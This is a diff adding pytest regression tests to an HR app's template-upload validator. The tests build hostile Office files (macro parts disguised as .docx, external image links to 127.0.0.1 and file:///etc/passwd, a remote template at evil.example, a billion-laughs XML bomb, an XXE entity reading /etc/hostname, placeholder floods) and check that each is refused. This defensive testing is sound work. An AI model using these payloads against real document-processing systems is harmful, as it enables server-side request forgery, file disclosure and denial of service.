@@ -1,9 +1,18 @@
 """Regression tests for the findings of the security review: each test is one attack that once worked."""
-import pytest
+import io
+import time
+import zipfile
 
-from conftest import Client, csrf_from, text_of
+import pytest
+from openpyxl import Workbook
+
+from conftest import csrf_from, text_of
+from export_support import FORM_KEY, simple_docx, upload
+from exports.docx_engine import MAX_PLACEHOLDERS, TemplateProblem
+from exports.template_check import check_template
+from forms import FORMS
 from pop import models
-from pop.models import Person
+from pop.models import ExportTemplate, Person
 from support import error_text
 
 
@@ -79,3 +88,142 @@ def test_hr_may_step_down_when_another_hr_remains(app, org, login):
     assert _edit(app, hr, org["hr"], role="medewerker").status_code == 302
     assert hr.get("/mensen/").status_code == 403
     assert "Mensen" in text_of(login(org["m2"]).get("/mensen/"))
+
+
+# ---------------------------------------------------------------- uploaded templates
+
+DOCX_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+IMAGE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
+HYPERLINK_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
+TEMPLATE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+
+
+def changed_package(data: bytes, changes: dict) -> bytes:
+    """The zip with members replaced (name -> function of the old bytes, or bytes for a new member)."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            change = changes.get(info.filename)
+            dst.writestr(info.filename, change(src.read(info)) if callable(change) else src.read(info))
+        for name, change in changes.items():
+            if name not in src.namelist():
+                dst.writestr(name, change)
+    return out.getvalue()
+
+
+def with_relationship(rel_type: str, target: str) -> bytes:
+    rel = (f'<Relationship Id="rIdSec" Type="{rel_type}" Target="{target}" '
+           'TargetMode="External"/></Relationships>').encode()
+    return changed_package(simple_docx("{{ medewerker.naam }}"), {
+        "word/_rels/document.xml.rels": lambda xml: xml.replace(b"</Relationships>", rel)})
+
+
+def problems_of(app, data: bytes, fmt="docx") -> str:
+    with app.app_context():
+        try:
+            return " ".join(check_template(data, fmt, FORMS[FORM_KEY])[1])
+        except TemplateProblem as exc:
+            return str(exc)
+
+
+MACROS_IN_DISGUISE = {
+    # A .docm renamed .docx, its content type written in lower case: Office reads it all the same.
+    "content type in lower case": lambda: changed_package(simple_docx("x"), {
+        "[Content_Types].xml": lambda xml: xml.replace(
+            DOCX_CT.encode(), b"application/vnd.ms-word.document.macroenabled.main+xml")}),
+    # The macro part under another name, known by its content type alone.
+    "macro part under another name": lambda: changed_package(simple_docx("x"), {
+        "[Content_Types].xml": lambda xml: xml.replace(
+            b"</Types>", b'<Default Extension="dat" ContentType="application/vnd.ms-office.'
+                         b'VbaProject"/></Types>'),
+        "word/macros.dat": b"\xd0\xcf\x11\xe0 macro"}),
+    "content type written as a character reference": lambda: changed_package(simple_docx("x"), {
+        "[Content_Types].xml": lambda xml: xml.replace(
+            DOCX_CT.encode(), b"application/vnd.ms-word.document.macro&#69;nabled.main+xml")}),
+}
+
+
+@pytest.mark.parametrize("case", list(MACROS_IN_DISGUISE))
+def test_macros_in_disguise_are_refused(app, case):
+    assert "bevat macro's" in problems_of(app, MACROS_IN_DISGUISE[case]())
+
+
+@pytest.mark.parametrize("target", ["http://127.0.0.1:8765/intern", "\\\\fileserver\\share\\x.png",
+                                    "file:///etc/passwd"])
+def test_a_linked_image_is_refused(app, target):
+    """LibreOffice fetched an externally linked image of the template on every PDF export: a request
+    from the server to any address the template named (and Word does the same on each PC)."""
+    assert "haalt inhoud van buiten het bestand op" in problems_of(app, with_relationship(IMAGE_REL, target))
+
+
+def test_a_remote_word_template_is_refused(app):
+    data = with_relationship(TEMPLATE_REL, "https://evil.example/template.dotm")
+    assert "haalt inhoud van buiten het bestand op" in problems_of(app, data)
+
+
+@pytest.mark.parametrize("rel_type, target", [
+    (HYPERLINK_REL, "https://intranet.example/pop"),
+    (TEMPLATE_REL, "file:///C:\\Users\\hr\\AppData\\Roaming\\Microsoft\\Templates\\Huisstijl.dotx")])
+def test_hyperlinks_and_the_local_word_template_stay_allowed(app, rel_type, target):
+    assert problems_of(app, with_relationship(rel_type, target)) == ""
+
+
+def test_a_template_with_too_many_placeholders_is_refused_quickly(app):
+    """A 68 kB upload with half a million placeholders took a minute and 6 GB of memory to check."""
+    data = simple_docx("{{ medewerker.naam }}" * (MAX_PLACEHOLDERS + 1))
+    started = time.perf_counter()
+    assert f"meer dan {MAX_PLACEHOLDERS} plaatshouders" in problems_of(app, data)
+    assert time.perf_counter() - started < 5
+
+
+def test_an_excel_template_with_too_many_placeholders_is_refused(app):
+    workbook = Workbook()
+    for row in range(1, MAX_PLACEHOLDERS // 10 + 2):
+        for col in range(1, 11):
+            workbook.active.cell(row, col, "{{ medewerker.naam }}")
+    out = io.BytesIO()
+    workbook.save(out)
+    assert f"meer dan {MAX_PLACEHOLDERS} plaatshouders" in problems_of(app, out.getvalue(), "xlsx")
+
+
+@pytest.fixture
+def hr_no_propagate(app, org, login):
+    app.config["PROPAGATE_EXCEPTIONS"] = False  # a server error must show as one, not raise here
+    return login(org["hr"])
+
+
+def _default_xlsx():
+    from exports.xlsx_default_template import default_xlsx_template
+    return default_xlsx_template(FORM_KEY)
+
+
+LAUGHS = (b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
+          + b"".join(b'<!ENTITY %c "%s">' % (c, b"&%c;" % (c - 1) * 10) for c in range(ord("b"), ord("j")))
+          + b"]>")
+BROKEN_UPLOADS = {
+    # Jinja computes constants while compiling: too long a number to print raised a ValueError.
+    "huge constant": ("docx", lambda: simple_docx("{{ 7**6000 }}"), "De sjabloontekst klopt niet"),
+    "worksheet XML with a duplicate attribute": ("xlsx", lambda: changed_package(_default_xlsx(), {
+        "xl/worksheets/sheet1.xml": lambda xml: xml.replace(b'<c r="A1"', b'<c r="A1" r="A1"', 1)}),
+        "beschadigd"),
+    "truncated styles": ("xlsx", lambda: changed_package(_default_xlsx(), {
+        "xl/styles.xml": lambda xml: xml[:50]}), "beschadigd"),
+    "billion laughs in a worksheet": ("xlsx", lambda: changed_package(_default_xlsx(), {
+        "xl/worksheets/sheet1.xml": lambda xml: LAUGHS + xml.replace(b"<t>Vraag</t>", b"<t>&i;</t>", 1)}),
+        "beschadigd"),
+    "external entity in a worksheet": ("xlsx", lambda: changed_package(_default_xlsx(), {
+        "xl/worksheets/sheet1.xml": lambda xml: b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM '
+                                                b'"file:///etc/hostname">]>'
+                                                + xml.replace(b"<t>Vraag</t>", b"<t>&x;</t>", 1)}),
+        "beschadigd"),
+}
+
+
+@pytest.mark.parametrize("case", list(BROKEN_UPLOADS))
+def test_a_broken_upload_gets_a_message_not_a_server_error(app, hr_no_propagate, case):
+    fmt, make, phrase = BROKEN_UPLOADS[case]
+    response = upload(hr_no_propagate, make(), f"sjabloon.{fmt}")
+    assert response.status_code == 422, response.status_code
+    assert phrase in text_of(response)
+    with app.app_context():
+        assert ExportTemplate.select().count() == 0
